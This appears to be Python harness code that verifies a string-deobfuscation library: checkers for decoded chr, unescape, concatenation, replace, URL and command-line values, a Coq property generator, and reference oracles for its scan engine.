        m = stdre.fullmatch(rb"(?i)chr[bw]?\((\d+)\)", txt)
        if not m:
            msgs.append(f"chr node does not cover exactly a chr/chrw/chrb(n) call: {txt!r}")
        else:
            cp = int(m.group(1))
            try:
                want = chr(cp).encode()
            except (ValueError, UnicodeEncodeError, OverflowError):
                want = None
            if want is None:
                msgs.append(f"chr({cp}) is not encodable but a node was reported")
            elif bytes(n.value) != want:
                msgs.append(f"chr({cp}): value {bytes(n.value)!r} != UTF-8 {want!r}")
    elif n.obfuscation == "function.unescape":
        m = stdre.fullmatch(rb"unescape\('([^']*)'\)", txt, stdre.S)
        if not m:
            msgs.append(f"unescape node does not cover exactly an unescape('...') call: {txt[:80]!r}")
        elif bytes(n.value) != unquote_to_bytes(m.group(1)):
            msgs.append(f"unescape node over {txt[:60]!r}: value != percent-decoded argument")
    elif n.obfuscation == "codec.uft-16":
        try:
            want = txt.decode("utf-16-le").encode("utf-8")
        except UnicodeError:
            want = None
        if len(txt) % 2 or want is None or bytes(n.value) != want:
            msgs.append(f"utf-16 node over {txt[:40]!r}: value is not the UTF-8 text of those UTF-16LE characters")
        elif len([1 for i in range(0, len(txt), 2) if txt[i + 1:i + 2] == b"\x00" and txt[i:i + 1] != b"\x00"]) < 7:
            msgs.append("utf-16 node covers fewer than seven characters")
    return msgs


# ------------------------------------------------------------------ C15
DQ = rb'"(?:[^"`\\]*(?:""|`.|\\[^"]|\\""?))*[^"`\\]*"'
SQ = rb"'(?:[^']*'')*[^']*'"
LIT = rb"(?:" + DQ + rb"|" + SQ + rb")"
SPACER = rb"[\s_]*(?:&amp;|&|\+)[\s_]*"


def _simple(lit):
    """contents of a literal when it contains no quote characters, else None (outside the property's domain)"""
    body = lit[1:-1]
    if any(c in body for c in b"\"'`\\"):
        return None
    return body


def c15_node(n, parent):
    msgs = []
    txt = covered(n, parent)
    if n.obfuscation == "concatenation":
        lits = stdre.findall(LIT, txt)
        # check the covered text is exactly literal (spacer literal)+
        rebuilt = stdre.fullmatch(rb"(?:" + LIT + SPACER + rb")+" + LIT, txt, stdre.S)
        bodies = [_simple(l) for l in lits]
        if rebuilt and all(b is not None and stdre.fullmatch(SPACER, b, stdre.S) is None for b in bodies) and len(lits) >= 2:
            # joining operators inside the covered text but outside literals only
            if n.type != "string" or bytes(n.value) != b"".join(bodies):
                msgs.append(f"concatenation over {txt[:80]!r}: value {bytes(n.value)[:60]!r} != joined literal contents")
    elif n.obfuscation in ("reverse", "vba.reverse"):
        m = stdre.fullmatch(rb"(?i)(?:reversed?|strreverse)\(\s*(" + LIT + rb")\s*\)", txt, stdre.S)
        if m and _simple(m.group(1)) is not None:
            if bytes(n.value) != _simple(m.group(1))[::-1]:
                msgs.append(f"reverse over {txt[:80]!r}: value {bytes(n.value)[:60]!r} != reversed contents")
            want_ty = "vba.string" if txt[:3].lower() == b"str" else "string"
            if n.type != want_ty or n.obfuscation != ("vba.reverse" if want_ty == "vba.string" else "reverse"):
                msgs.append(f"reverse over {txt[:40]!r}: wrong dialect type/label {n.type}/{n.obfuscation}")
    elif n.obfuscation in ("replace", "vba.replace"):
        forms = [
            (rb"(?i)(" + LIT + rb")\.replace\(\s*(" + LIT + rb")\s*,\s*(" + LIT + rb")\s*\)", "string", "replace", False),
            (rb"(?i)replace\(\s*(" + LIT + rb")\s*,\s*(" + LIT + rb")\s*,\s*(" + LIT + rb")\s*\)", "vba.string", "vba.replace", False),
            (rb"(?i)(" + LIT + rb")\s*-replace\s*(" + LIT + rb")\s*,\s*(" + LIT + rb")", "powershell.string", "replace", False),
            (rb"(?i)(" + LIT + rb")\.replace\(/([^/[\](){}\\.+*?^$,]+)/[gim]{0,3}\s*,\s*(" + LIT + rb")\s*\)", "javascript.string", "replace", True),
        ]
        for pat, ty, obf, js in forms:
            m = stdre.fullmatch(pat, txt, stdre.S)
            if m and n.type == ty:
                x = _simple(m.group(1))
                a = m.group(2) if js else _simple(m.group(2))
                b = _simple(m.group(3))
                if x is None or a is None or b is None or a == b"":
                    break
                if bytes(n.value) != x.replace(a, b) or n.obfuscation != obf:
                    msgs.append(f"{ty} replace over {txt[:80]!r}: value {bytes(n.value)[:60]!r} != every occurrence replaced ({x.replace(a, b)[:60]!r})")
                break
    return msgs


# ------------------------------------------------------------------ C10
QUAD = stdre.compile(rb"(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])")
UNRESERVED = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"


def normalize_percent_spec(text):
    out = bytearray()
    i = 0
    while i < len(text):
        if text[i:i + 1] == b"%" and stdre.fullmatch(rb"[0-9a-fA-F]{2}", text[i + 1:i + 3]):
            b = bytes.fromhex(text[i + 1:i + 3].decode())
            if b in [bytes([c]) for c in UNRESERVED]:
                out += b
            else:
                out += text[i:i + 3].upper()
            i += 3
        else:
            out += text[i:i + 1]
            i += 1
    return bytes(out)


def c10_node(n, parent, tlds=None):
    if tlds is None:
        from multidecoder.domains import TOP_LEVEL_DOMAINS as tlds_
        tlds = tlds_
    msgs = []
    txt = covered(n, parent)
    v = bytes(n.value)
    free_text = not parent.type.startswith("network.url") and not parent.type.startswith("windows.")
    if n.type == "network.ip":
        if not QUAD.fullmatch(v):
            msgs.append(f"network.ip value {v!r} is not a canonical dotted quad")
        elif free_text and v != txt:
            msgs.append(f"network.ip found in free text: value {v!r} != covered text {txt!r}")
    elif n.type == "network.domain":
        name, dot, tld = v.rpartition(b".")
        if not name or not dot or tld.upper() not in tlds:
            msgs.append(f"network.domain value {v!r} is not name.<registered TLD>")
        elif free_text and (not stdre.fullmatch(rb"[A-Za-z0-9.-]+", v) or len(v) < 7):
            msgs.append(f"network.domain found in free text {v!r}: not letters/digits/hyphens/dots of length >= 7")
    elif n.type == "network.email":
        local, at, dom = v.rpartition(b"@")
        name, dot, tld = dom.rpartition(b".")
        if not local or not at or not name or tld.upper() not in tlds:
            msgs.append(f"network.email value {v!r} is not local-part@domain with a registered TLD")
    elif n.type == "network.url":
        # authority = up to the first / ? #; credentials end at the LAST @ (an unescaped @ inside them is irregular but it is the usual reading: WHATWG, urllib);
        # host = the rest without a trailing :port, or a bracketed literal
        m = stdre.match(rb"(?i)(https?|ftp)://([^/?#]*)", v)
        host = b""
        if m:
            hostport = m.group(2).rpartition(b"@")[2]
            if hostport.startswith(b"["):
                host = hostport[:hostport.find(b"]") + 1] if b"]" in hostport else b""
            else:
                host = stdre.sub(rb":\d*$", b"", hostport)
        if not m or not host:
            msgs.append(f"network.url value {v[:80]!r} has no http/https/ftp scheme with a non-empty host")
        want = normalize_percent_spec(txt)
        if v != want:
            msgs.append(f"network.url value {v[:80]!r} != covered text with unreserved escapes decoded / others upper-cased {want[:80]!r}")
        if (n.obfuscation == "escape.percent") != (len(v) < len(txt)):
            msgs.append(f"network.url over {txt[:60]!r}: percent label {n.obfuscation!r} but shortened={len(v) < len(txt)}")
    return msgs


# ------------------------------------------------------------------ C12
def rfc3986_remove_dots(path):
    """'.' dropped, '..' cancels the nearest remaining segment before it but never the root"""
    segs = path.split(b"/")
    absolute = path.startswith(b"/")
    out = []
    removed = False
    for i, s in enumerate(segs):
        d = unquote_to_bytes(s)
        if d == b".":
            removed = True
        elif d == b"..":
            removed = True
            if out and not (absolute and len(out) == 1):
                out.pop()
        else:
            out.append(d.replace(b"/", b"%2F"))
    return out, removed, absolute


def c12_node(n, parent):
    msgs = []
    if n.type != "network.url":
        return msgs
    u = bytes(n.value)
    m = stdre.match(rb"(?i)([a-z][a-z0-9+.-]*):(?://([^/?#]*))?([^?#]*)(?:\?([^#]*))?(?:#(.*))?$", u, stdre.S)
    if not m:
        return msgs
    scheme, auth, path, query, frag = m.group(1), m.group(2), m.group(3), m.group(4), m.group(5)
    for c in n.children:
        sel = u[c.start:c.end]
        cv = bytes(c.value)
        if not (0 <= c.start <= c.end <= len(u)):
            msgs.append(f"url part {c.type} span ({c.start},{c.end}) outside the url value (len {len(u)})")
            continue
        if c.type == "network.url.scheme":
            if sel != scheme or cv != scheme.lower():
                msgs.append(f"scheme part selects {sel!r} / value {cv!r}, scheme text is {scheme!r}")
            mixed = not (scheme == scheme.lower() or scheme == scheme.upper())
            if (c.obfuscation == "MixedCase") != mixed:
                msgs.append(f"scheme {scheme!r}: MixedCase label {c.obfuscation!r}")
        elif c.type == "network.url.path":
            if sel != path:
                msgs.append(f"path part selects {sel!r}, path text is {path!r}")
            else:
                segs, removed, absolute = rfc3986_remove_dots(path)
                want = b"/".join(segs)
                if absolute and not want.startswith(b"/"):
                    want = b"/" + want.lstrip(b"/") if want else b"/"
                if segs == [b""] and absolute:
                    want = b"/"
                # relative paths with empty segments are outside the property's wording ("absolute path stays absolute")
                if absolute and cv != want:
                    msgs.append(f"path {path!r}: value {cv!r} != dot-segments removed + percent-decoded (except %2F) {want!r}")
                if absolute and (c.obfuscation == "url.dotpath") != removed:
                    msgs.append(f"path {path!r}: dotpath label {c.obfuscation!r} but a segment was removed={removed}")
        elif c.type == "network.url.query":
            if query is None or sel != query or cv != unquote_to_bytes(query):
                msgs.append(f"query part selects {sel!r} value {cv!r}, query text is {query!r}")
        elif c.type == "network.url.fragment":
            if frag is None or sel != frag or cv != unquote_to_bytes(frag):
                msgs.append(f"fragment part selects {sel!r} value {cv!r}, fragment text is {frag!r}")
        elif c.type in ("network.url.username", "network.url.password"):
            if auth is None or b"@" not in auth:
                msgs.append(f"{c.type} reported but the authority has no userinfo")
            else:
                userinfo = auth.rsplit(b"@", 1)[0]
                user, _, pw = userinfo.partition(b":")
                want = user if c.type.endswith("username") else pw
                if sel != want or cv != unquote_to_bytes(want):
                    msgs.append(f"{c.type} selects {sel!r} value {cv!r}, text is {want!r}")
        elif c.type in ("network.ip", "network.domain", "network.ipv6"):
            if auth is None:
                msgs.append("host part reported but the url has no authority")
                continue
            hostport = auth.rsplit(b"@", 1)[-1]
            host = hostport
            mm = stdre.fullmatch(rb"(.*):(\d*)", hostport, stdre.S)
            if mm and not hostport.endswith(b"]"):
                host = mm.group(1)
            elif mm and hostport.endswith(b"]") is False:
                host = mm.group(1)
            if host.startswith(b"[") and b"]" in host:
                host_txt = host[1:host.index(b"]")]
            else:
                host_txt = host
            if c.type == "network.ipv6":
                if sel != host_txt:
                    msgs.append(f"ipv6 host part selects {sel!r}, host text is {host_txt!r}")
            else:
                if sel != host_txt:
                    msgs.append(f"host part selects {sel!r}, host text is {host_txt!r}")
                if c.type == "network.ip":
                    if not QUAD.fullmatch(cv):
                        msgs.append(f"host ip value {cv!r} is not canonical")
                    if (c.obfuscation == "ip_obfuscation") != (cv != unquote_to_bytes(host_txt)):
                        msgs.append(f"host {host_txt!r}: ip_obfuscation label {c.obfuscation!r} but canonical={cv == unquote_to_bytes(host_txt)}")
    return msgs


def c12_winpath(n, parent):
    msgs = []
    if not n.type.startswith("windows.") or not n.type.endswith("path"):
        return msgs
    import ntpath
    txt = covered(n, parent)
    v = bytes(n.value)
    if v != ntpath.normpath(txt):
        msgs.append(f"windows path over {txt!r}: value {v!r} is not the normalised path")
    if (n.obfuscation == "windows.dotpath") != (len(v) < len(txt)):
        msgs.append(f"windows path over {txt!r}: dotpath label {n.obfuscation!r} but shortened={len(v) < len(txt)}")
    for c in n.children:
        if c.type not in ("filename", "executable.filename", "executable.library.filename", "network.domain", "network.ip"):
            continue      # attached by the scan, not a part supplied by the path decoder
        if not (0 <= c.start <= c.end <= len(v)):
            msgs.append(f"windows path part {c.type} span ({c.start},{c.end}) outside the value")
            continue
        sel = v[c.start:c.end]
        if c.type in ("filename", "executable.filename", "executable.library.filename"):
            if sel != bytes(c.value) or sel != v.split(b"\\")[-1] or c.end != len(v):
                msgs.append(f"file-name child selects {sel!r} of {v!r}, value {bytes(c.value)!r}")
        elif c.type == "network.domain":
            if sel != bytes(c.value):
                msgs.append(f"host child selects {sel!r} of {v!r}, value {bytes(c.value)!r}")
        elif c.type == "network.ip":
            if c.obfuscation == "" and sel != bytes(c.value):
                msgs.append(f"host ip child selects {sel!r} of {v!r}, value {bytes(c.value)!r}")
    return msgs


# ------------------------------------------------------------------ C16
def cmd_unescape_spec(cmd):
    out = bytearray()
    in_str = False
    i = 0
    n = len(cmd)
    while i < n:
        c = cmd[i]
        if c == 0x22:
            in_str = not in_str
            out.append(c)
            i += 1
        elif c == 0x0d:
            in_str = False
            out.append(c)
            i += 1
        elif c == 0x5e and not in_str:
            if i + 1 >= n:
                i += 1          # trailing caret dropped
            elif cmd[i + 1:i + 3] == b"\r\n":
                if i + 3 < n:
                    out.append(cmd[i + 3])
                i += 4          # all three vanish, the character after them kept literally
            else:
                out.append(cmd[i + 1])
                i += 2
        else:
            out.append(c)
            i += 1
    return bytes(out)


def paren_cut_spec(text):
    bal = 0
    for i, c in enumerate(text):
        if c == 0x29:
            bal -= 1
        elif c == 0x28:
            bal += 1
        if bal < 0:
            return i
    return len(text)


def c16_cmd_hit(data, hit):
    """hit produced by find_cmd_strings on `data` (absolute coordinates)"""
    msgs = []
    s, e = hit.start, hit.end
    seg = data[s:]
    nul = seg.find(b"\x00")
    if nul >= 0:
        seg = seg[:nul]
    want_end = s + paren_cut_spec(seg)
    if e != want_end:
        msgs.append(f"cmd result at {s}: ends at {e}, first unbalanced ')' / NUL / end of text is at {want_end}")
        return msgs
    raw = data[s:e]
    want = cmd_unescape_spec(raw)
    v = bytes(hit.value)
    if v != want:
        # "less a stray closing quote glued to the command token"
        tok = want.split()[0] if want.split() else b""
        ok = False
        for q in (b'"', b"'"):
            if tok.endswith(q) and not tok.startswith(q):
                repaired = want.split()
                repaired[0] = repaired[0][:-1]
                if v == b" ".join(repaired):
                    ok = True
        if not ok:
            msgs.append(f"cmd result over {raw[:80]!r}: value {v[:80]!r} != de-escaped text {want[:80]!r}")
    if (hit.obfuscation == "unescape.shell.carets") != (want != raw):
        msgs.append(f"cmd result over {raw[:60]!r}: caret label {hit.obfuscation!r} but de-escaping changed it = {want != raw}")
    return msgs
