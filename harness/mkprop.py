#!/usr/bin/env python3
"""mkprop.py <spec.json> : generate coq/Properties/<id>.v from a spec {id, header, imports, items:[{name, lemma, comment}], tail}.
The statement of each lemma is printed by coqtop (`Check`) and pinned verbatim in the property file, closed by `exact <lemma>`:
a later weakening of the lemma breaks the property file instead of silently weakening the property."""
import json, os, re, subprocess, sys
spec = json.load(open(sys.argv[1]))
COQ = "/verif/coq"
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import coqbuild
coqbuild.make(targets=["-k"])     # every .vo consistent with the current sources before statements are read
imports = spec["imports"]
script = imports + "\nSet Printing Width 100000.\nSet Printing Depth 100000.\n" + "\n".join(f'Check {it["lemma"]}.' for it in spec["items"]) + "\n"
p = subprocess.run(["coqtop", "-Q", COQ, "MD", "-quiet"], input=script.encode(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=COQ)
out = p.stdout.decode()
stmts = {}
for it in spec["items"]:
    m = re.search(r"(?ms)^%s\s*\n?\s*: (.*?)(?=^\S|\Z)" % re.escape(it["lemma"].split(".")[-1]), out)
    if not m:
        sys.exit(f"no statement found for {it['lemma']}:\n{out[-2000:]}\n{p.stderr.decode()[-2000:]}")
    stmts[it["lemma"]] = " ".join(m.group(1).split())
if spec.get("append"):
    # append mode: the hand-written property file is kept; a delimited block with the pinned statements is (re)placed at its end
    tag = spec["append"]
    path = os.path.join(COQ, "Properties", spec["id"] + ".v")
    text = open(path).read()
    begin, end = f"(* BEGIN {tag} *)", f"(* END {tag} *)"
    if begin in text:
        text = text[:text.index(begin)].rstrip("\n") + "\n" + text[text.index(end) + len(end):].lstrip("\n")
    block = [begin, "(* " + spec["header"] + " *)", imports, ""]
    for it in spec["items"]:
        if it.get("comment"):
            block.append("(* " + it["comment"] + " *)")
        block.append(f'Theorem {it["name"]} : {stmts[it["lemma"]]}.')
        block.append(f'Proof. exact {it["lemma"]}. Qed.')
        block.append(f'Print Assumptions {it["name"]}.')
        block.append("")
    block.append(end)
    open(path, "w").write(text.rstrip("\n") + "\n\n" + "\n".join(block) + "\n")
    print("appended", spec["id"], len(spec["items"]), "theorems")
    sys.exit(0)
lines = ["(* " + spec["header"] + " *)", imports, ""]
for it in spec["items"]:
    if it.get("comment"):
        lines.append("(* " + it["comment"] + " *)")
    lines.append(f'Theorem {it["name"]} : {stmts[it["lemma"]]}.')
    lines.append(f'Proof. exact {"@" if it.get("explicit") else ""}{it["lemma"]}. Qed.')
    lines.append(f'Print Assumptions {it["name"]}.')
    lines.append("")
lines.append(spec.get("tail", ""))
open(os.path.join(COQ, "Properties", spec["id"] + ".v"), "w").write("\n".join(lines) + "\n")
print("wrote", spec["id"], len(spec["items"]), "theorems")
