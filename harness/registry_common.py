"""Registry probes: keyword directories generated in a scratch dir (outside /repo and /verif), include/exclude subsets."""
from __future__ import annotations

import os
import shutil
import tempfile


def rand_words(rng):
    # incl. the bytes that str.splitlines (but not bytes.splitlines) treats as line ends: VT FF FS GS RS NEL, and UTF-8 text containing 0x85
    alpha = [b"alpha", b"Beta", b"beta", b"g-1", b"d d", b"", b"", b"x", b"ALPHA", b"z\xff", b"tab\tw", b"v\x0bt", b"f\x0cf", b"a\x1cb", b"a\x1db\x1ec", b"n\x85l", b"\xc3\x85ngstr\xc3\xb6m", b"\xe2\x80\xa8u"]
    n = rng.randint(0, 7)
    return [rng.choice(alpha) for _ in range(n)]


def rand_content(rng):
    words = rand_words(rng)
    seps = [b"\n", b"\r\n", b"\r", b"\n\n"]
    out = b""
    for w in words:
        out += w + rng.choice(seps)
    if words and rng.random() < 0.3:
        out = out.rstrip(b"\r\n")
    return out


def rand_dtree(rng, depth=2):
    names = ["api", "key", "a.b", "Zed", "m_1", "net.proto", "0x", "zz"]
    rng.shuffle(names)
    nf = rng.randint(0, 4)
    files = [[names[i], rand_content(rng)] for i in range(nf)]
    subs = []
    if depth > 0:
        for j in range(rng.randint(0, 2)):
            subs.append([names[nf + j] + "_d", rand_dtree(rng, depth - 1)])
    return [files, subs]


def materialise(tree, root):
    os.makedirs(root, exist_ok=True)
    for name, content in tree[0]:
        with open(os.path.join(root, name), "wb") as f:
            f.write(content)
    for name, sub in tree[1]:
        materialise(sub, os.path.join(root, name))


def impl_get_keywords(tree, shuffle_rng=None):
    """run multidecoder.registry.get_keywords on a materialised copy of the tree; optionally with os.walk reporting
    directory entries in a shuffled order (any order the file system may choose)"""
    import multidecoder.registry as reg
    tmp = tempfile.mkdtemp(prefix="verif_kw_")
    try:
        materialise(tree, tmp)
        if shuffle_rng is None:
            got = reg.get_keywords(tmp)
        else:
            real_walk = os.walk

            def walk(top, **kw):
                stack = [top]
                while stack:
                    d = stack.pop()
                    entries = os.listdir(d)
                    shuffle_rng.shuffle(entries)
                    dirs = [e for e in entries if os.path.isdir(os.path.join(d, e))]
                    files = [e for e in entries if not os.path.isdir(os.path.join(d, e))]
                    yield d, dirs, files
                    for s in reversed(dirs):
                        stack.append(os.path.join(d, s))
            reg.os.walk = walk
            try:
                got = reg.get_keywords(tmp)
            finally:
                reg.os.walk = real_walk
        return [[p.args[0], list(p.args[1])] for p in got]
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def expected_searchers(tree):
    """the property text: one searcher per non-empty keyword file (typed by the file's name, blank lines ignored,
    files in sub-directories included) - as an unordered collection of (name, set of words)"""
    out = []

    def walk(t):
        for name, content in t[0]:
            words = {w for w in content.splitlines() if w}
            if words:
                out.append((name, frozenset(words)))
        for _, sub in t[1]:
            walk(sub)
    walk(tree)
    return sorted(out, key=lambda x: (x[0], sorted(x[1])))
