"""Engine probes (Multidecoder.scan_node with synthetic registries vs Model/Engine.v) and the
implementation-side oracles of C03..C08, each written from the property text, independently of the model."""
from __future__ import annotations

import itertools
import signal

from common import canon, node_val, make_node, check_parents


class _Timeout(Exception):
    pass


def run_with_timeout(fn, secs=0.5):
    def h(*a):
        raise _Timeout()
    old = signal.signal(signal.SIGALRM, h)
    signal.setitimer(signal.ITIMER_REAL, secs)
    try:
        return fn()
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


# ------------------------------------------------------------------ synthetic registries
class Recorder:
    """Registry built from a table value -> [hit tuples]; records every hit object it hands out together with
    the absolute span it reported and the search call it belongs to."""

    def __init__(self, table, split=1):
        self.table = {k: v for k, v in table}
        self.calls = []       # (call_id, text)
        self.reported = {}    # id(node) -> (call_id, a, b, node)
        self.split = split
        self.shared_empty = []      # legal API use: one empty list object passed as `children` to every child-less hit (the scan must not let nodes share it)
        self.decoders = [self._make(i) for i in range(split)]

    def _make(self, i):
        def dec(value):
            hits = self.table.get(bytes(value), [])
            if i == 0:
                self.calls.append(bytes(value))
            cid = len(self.calls) - 1
            out = []
            for j, h in enumerate(hits):
                if j % self.split != i:
                    continue
                n = make_node(h)
                if not h[5] and len(self.calls) % 3 == 0:
                    from multidecoder.node import Node
                    n = Node(h[0], h[1], h[2], h[3], h[4], children=self.shared_empty)
                self.reported[id(n)] = (cid, h[3], h[4], n)
                out.append(n)
            return out
        return dec


def impl_scan_node(table, depth, node, timeout=0.5):
    from multidecoder.multidecoder import Multidecoder
    rec = Recorder(table)
    md = Multidecoder(rec.decoders)
    root = make_node(node)
    try:
        res = run_with_timeout(lambda: md.scan_node(root, depth), timeout)
    except _Timeout:
        return ["hang"], rec, None
    except RecursionError:
        return ["raise", "RecursionError"], rec, None
    except Exception as ex:  # noqa: BLE001
        return ["raise", type(ex).__name__], rec, None
    return ["ok", node_val(res)], rec, res


def impl_scan(table, depth, data, timeout=0.5):
    from multidecoder.multidecoder import Multidecoder
    rec = Recorder(table)
    md = Multidecoder(rec.decoders)
    try:
        res = run_with_timeout(lambda: md.scan(data, depth), timeout)
    except _Timeout:
        return ["hang"], rec, None
    except Exception as ex:  # noqa: BLE001
        return ["raise", type(ex).__name__], rec, None
    return ["ok", node_val(res)], rec, res


# ------------------------------------------------------------------ well-formedness of a registry table (C06 precondition)
def table_wf(table):
    """non-empty, in-bounds hits; decoder-supplied children (recursively) in bounds of their parent's value"""
    def kids_ok(v, kids):
        return all(0 <= k[3] <= k[4] <= len(v) and kids_ok(k[1], k[5]) for k in kids)
    for text, hits in table:
        for h in hits:
            if not (0 <= h[3] < h[4] <= len(text)) or not h[1] or not kids_ok(h[1], h[5]):
                return False
    return True


# ------------------------------------------------------------------ C06 reference procedure (from the property text)
def ref_scan_node(table, node, depth):
    tbl = {k: v for k, v in table}

    def go(n, depth):
        ty, val, obf, st, en, kids = n
        if depth <= 0:
            return n
        if kids:
            return [ty, val, obf, st, en, [go(k, depth - 1) for k in kids]]
        text = val
        hits = [h for h in tbl.get(text, []) if h[1]]
        hits = sorted(hits, key=lambda h: (h[3], -h[4]))  # start ascending, end descending, registry order (stable)
        root = {"a": 0, "b": len(text), "ty": ty, "val": val, "node": None, "kids": []}
        open_ = [root]
        dec_end = 0
        for h in hits:
            hty, hval, hobf, a, b, hkids = h
            if b <= dec_end:
                continue  # ends inside an already-decoded span
            while len(open_) > 1 and not (open_[-1]["a"] <= a and b <= open_[-1]["b"]):
                open_.pop()
            P = open_[-1]
            if a == P["a"] and hval == P["val"] and hty == P["ty"]:
                continue  # merely restates its parent
            rel = [hty, hval, hobf, a - P["a"], b - P["a"], hkids]
            if hval.lower() != text[a:b].lower() or hkids:
                dec_end = b
                P["kids"].append(go(rel, depth - 1))
            else:
                f = {"a": a, "b": b, "ty": hty, "val": hval, "node": rel, "kids": []}
                P["kids"].append(f)
                open_.append(f)

        def build(f):
            ks = [build(k) if isinstance(k, dict) else k for k in f["kids"]]
            if f["node"] is None:
                return [ty, val, obf, st, en, ks]
            r = f["node"]
            return [r[0], r[1], r[2], r[3], r[4], ks]
        return build(root)
    return go(node, depth)


# ------------------------------------------------------------------ oracles
def oracle_C03(table, depth, node, out, rec, res, is_scan=False):
    msgs = []
    if out[0] != "ok":
        return msgs
    if is_scan:
        if res.type != "" or res.obfuscation != "" or res.start != 0 or res.end != len(res.value) or res.parent is not None \
                or bytes(res.value) != bytes(node[1]):
            msgs.append("root does not carry the unmodified input with empty type/obfuscation, span 0..len and no parent")
    msgs += check_parents(res, res.parent)
    # iteration visits every node exactly once, in depth-first pre-order
    expected = []

    def pre(n):
        for c in n.children:
            expected.append(id(c))
            pre(c)
    pre(res)
    got = [id(n) for n in res]
    if got != expected or len(set(got)) != len(got):
        msgs.append("iterating the root does not visit every node exactly once in pre-order")
    if table_wf(table):
        def spans(n, path):
            for i, c in enumerate(n.children):
                if not (0 <= c.start <= c.end <= len(n.value)):
                    msgs.append(f"node {path}.{i} span ({c.start},{c.end}) is not within its parent's value (len {len(n.value)})")
                spans(c, f"{path}.{i}")
        if not node[5]:
            spans(res, "root")
        # every kept hit appears exactly once
        seen = {}
        for n in res:
            if id(n) in rec.reported:
                seen[id(n)] = seen.get(id(n), 0) + 1
        if any(v != 1 for v in seen.values()):
            msgs.append("a reported hit object appears more than once in the tree")
    return msgs


def oracle_C04(table, depth, node, out, rec, res):
    """every kept hit denotes exactly the bytes it was reported at"""
    msgs = []
    if out[0] != "ok" or not table_wf(table):
        return msgs
    for n in res:
        info = rec.reported.get(id(n))
        if not info:
            continue
        cid, a, b, _ = info
        text = rec.calls[cid]
        # enclosing undecoded contexts = ancestors reported by the same search call
        s = n.start
        p = n.parent
        while p is not None and id(p) in rec.reported and rec.reported[id(p)][0] == cid:
            s += p.start
            p = p.parent
        if s != a:
            msgs.append(f"hit reported at [{a},{b}) of {text!r}: start plus enclosing context starts = {s}")
        if n.end - n.start != b - a:
            msgs.append(f"hit reported at [{a},{b}): span length became {n.end - n.start}")
        if n.original.lower() != text[a:b].lower():
            msgs.append(f"hit reported at [{a},{b}) of {text!r}: original slice is {n.original!r}, expected {text[a:b]!r}")
    return msgs


def oracle_C05(table, depth, node, out, rec, res):
    msgs = []
    if out[0] != "ok" or not table_wf(table):
        return msgs

    def walk(n, path):
        # children attached by the scan = reported hit objects (decoder-supplied children are not reported objects)
        ks = [c for c in n.children if id(c) in rec.reported]
        for x, y in zip(ks, ks[1:]):
            if not (x.start <= y.start):
                msgs.append(f"{path}: sibling starts decrease ({x.start} then {y.start})")
            if not (x.end < y.end):
                msgs.append(f"{path}: sibling ends not strictly increasing ({x.start},{x.end}) then ({y.start},{y.end})")
        for i, c in enumerate(n.children):
            walk(c, f"{path}.{i}")
    walk(res, "root")
    # a hit lying inside an earlier kept result: nested under it if that is an undecoded context, absent if it was decoded
    in_tree = {}
    for n in res:
        if id(n) in rec.reported:
            in_tree[id(n)] = n
    tbl = {k: v for k, v in table}
    by_call = {}
    for oid, (cid, a, b, obj) in rec.reported.items():
        by_call.setdefault(cid, []).append((a, b, obj))
    for cid, hits in by_call.items():
        text = rec.calls[cid]
        order = sorted(range(len(hits)), key=lambda i: (hits[i][0], -hits[i][1]))   # stable: registry order on ties
        for pi, i in enumerate(order):
            A, B, D = hits[i]
            if id(D) not in in_tree or not D.value:
                continue
            supplied = any(h[5] for h in tbl.get(text, []) if h[3] == A and h[4] == B and h[0] == D.type and h[1] == bytes(D.value))
            decoded = bytes(D.value).lower() != text[A:B].lower() or supplied
            for j in order[pi + 1:]:
                a, b, h = hits[j]
                if not (A <= a and b <= B) or id(h) not in in_tree:
                    continue
                if decoded:
                    msgs.append(f"hit [{a},{b}) lies inside the earlier decoded result [{A},{B}) of {text!r} but was not suppressed")
                elif h.parent is D.parent:
                    # (an intervening, partially overlapping hit may have closed the context, so "nested under it" is only
                    #  required in the form the reference procedure guarantees: never a sibling)
                    msgs.append(f"hit [{a},{b}) lies inside the earlier undecoded context [{A},{B}) of {text!r} but is its sibling")
    return msgs


def oracle_C06(table, depth, node, out, rec, res):
    if not table_wf(table):
        return []
    if out[0] != "ok":
        return [f"engine did not return a tree ({out}) for a registry of non-empty in-bounds hits"]
    want = ref_scan_node(table, node, depth)
    if out[1] != want:
        return [f"tree differs from the interval-nesting reference: got {out[1]!r} expected {want!r}"]
    return []


def tree_le(small, big):
    """small = big with the deepest search pass removed: same header, child list an order-preserving sub-list"""
    if small[:5] != big[:5]:
        return False
    i = 0
    for c in small[5]:
        while i < len(big[5]) and not tree_le(c, big[5][i]):
            i += 1
        if i == len(big[5]):
            return False
        i += 1
    return True


def oracle_C07(table, depth, node, out, rec, res):
    msgs = []
    if not table_wf(table):
        return msgs
    if out[0] != "ok":
        return [f"scan with depth {depth} did not terminate normally: {out}"]
    if depth <= 0 and out[1] != canon(node):
        msgs.append(f"depth {depth} <= 0 must return the node untouched")
    out2, _, _ = impl_scan_node(table, depth + 1, node)
    if out2[0] != "ok":
        return msgs + [f"scan with depth {depth + 1} did not terminate normally: {out2}"]
    if not tree_le(out[1], out2[1]):
        msgs.append(f"tree for depth {depth} is not a truncation of the tree for depth {depth + 1}: {out[1]!r} vs {out2[1]!r}")
    # decoders applied only to values fewer than `depth` decoding steps away
    if depth > 0 and len(rec.calls) > 0:
        pass
    return msgs


def oracle_C08(table, depth, node, out, rec, res):
    """children of a decoded node (without decoder-supplied sub-structure) = children of a scan of a fresh node of the
    same type and value with the remaining depth"""
    msgs = []
    if out[0] != "ok" or not table_wf(table) or node[5]:
        return msgs
    tbl = {k: v for k, v in table}

    def walk(n, remaining, call_text):
        # n was searched with `remaining` (its children were attached by searching call_text)
        for c in n.children:
            info = rec.reported.get(id(c))
            if info is None:
                continue
            cid, a, b, _ = info
            text = rec.calls[cid]
            supplied = [h for h in tbl.get(text, []) if h[3] == a and h[4] == b and h[0] == c.type and h[1] == bytes(c.value)]
            has_kids = any(h[5] for h in supplied)
